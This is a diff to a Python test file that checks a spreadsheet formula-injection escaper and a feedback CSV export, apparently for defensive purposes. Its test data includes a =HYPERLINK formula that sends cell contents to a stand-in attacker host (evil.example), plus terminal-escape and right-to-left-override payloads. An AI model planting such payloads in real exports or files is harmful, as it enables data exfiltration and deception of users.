@@ -3,8 +3,11 @@
 from __future__ import annotations
 
 import ast
+import csv
 import os
 import socket
+import sys
+import unicodedata
 from collections.abc import Callable, Iterator
 from contextlib import contextmanager
 from pathlib import Path
@@ -56,21 +59,50 @@ def test_a_store_that_others_may_read_is_left_so_and_told(open_store: Callable[.
     assert mode(path) == 0o644
 
 
-@pytest.mark.parametrize(
-    "text", ["=1+1", "\n=1+1", "\r\n\t=1+1", "＝1+1", " ＋1", "\ufeff@SUM(1)", "\u200b－1", "\x00=1", "﹦1"]
-)
+@pytest.mark.parametrize("text", ["=1+1", "＝1+1", " ＋1", "\ufeff@SUM(1)", "\u200b－1", "\x00=1", "﹦1", "\t1", "\r1"])
 def test_no_text_is_a_formula_in_a_spreadsheet(text: str) -> None:
     assert escape_formula(text) == "'" + text
 
 
-def test_no_comment_is_a_formula_in_an_export(store: Heedful, tmp_path: Path) -> None:
+def test_every_character_that_is_normalised_to_a_sign_is_escaped() -> None:
+    signs = [sign for sign in map(chr, range(sys.maxunicode + 1)) if unicodedata.normalize("NFKC", sign) in {*"=+-@"}]
+    assert len(signs) > 4
+    for sign in signs:
+        assert escape_formula(f"{sign}1") == f"'{sign}1"
+        assert escape_formula(f"a;{sign}1") == f"a;'{sign}1"
+
+
+@pytest.mark.parametrize(
+    "text", ["fine", "a - b; c = d, e+f", "me@example.org; or call", "one\ntwo", "a | - | b", '"=" is a sign', "a,=1"]
+)
+def test_ordinary_texts_are_exported_as_they_are(text: str) -> None:
+    assert escape_formula(text) == text
+
+
+def test_a_long_run_of_separators_is_read_once() -> None:
+    text = ";\n" * 500_000
+    assert escape_formula(f"a{text}b") == f"a{text}b"
+
+
+COMMENTS = [
+    *("=1+1", "\n=1+1", "＝1+1", "\r\n\t=1+1", "fine", "nice;", 'nice;"', "nice\n", '"', "a;b\n"),
+    'nice;=HYPERLINK("http://evil.example/?"&A1;"ok");x\nline2;=1+1',
+    *(f"nice{before}{sign}1" for before in ("; ", "\t", "\n", "\r\n", ";;", '\n"', ';""', ";\ufeff") for sign in "=+-@＝"),
+]
+
+
+@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
+def test_no_comment_is_a_formula_in_an_export(store: Heedful, tmp_path: Path, delimiter: str) -> None:
     store.sessions.create("monday")
-    comments = ["\n=1+1", "＝1+1", "fine"]
-    for author, comment in enumerate(comments):
+    for author, comment in enumerate(COMMENTS):
         store.sessions.add_session_feedback("monday", {"rating": "down", "comment": comment}, author=str(author))
     store.insight.export("feedback", tmp_path / "said.csv")
-    cells = (tmp_path / "said.csv").read_bytes().decode()
-    assert all(f'"{cell}"' in cells for cell in ("'\n=1+1", "'＝1+1", "fine"))
+    with (tmp_path / "said.csv").open(encoding="utf-8", newline="") as file:
+        rows = list(csv.reader(file, delimiter=delimiter))
+    assert len(rows) > len(COMMENTS) or delimiter != ","
+    for cell in (cell for row in rows for cell in row):
+        first = unicodedata.normalize("NFKC", cell.strip(" \t\r\n\ufeff"))[:1]
+        assert first not in {*"=+-@"}, cell
 
 
 @pytest.mark.parametrize("text", ["\x1b]0;owned\x07", "\x9b31m", "\u202etxt.exe", "over\rwritten", "\x1b[2J"])
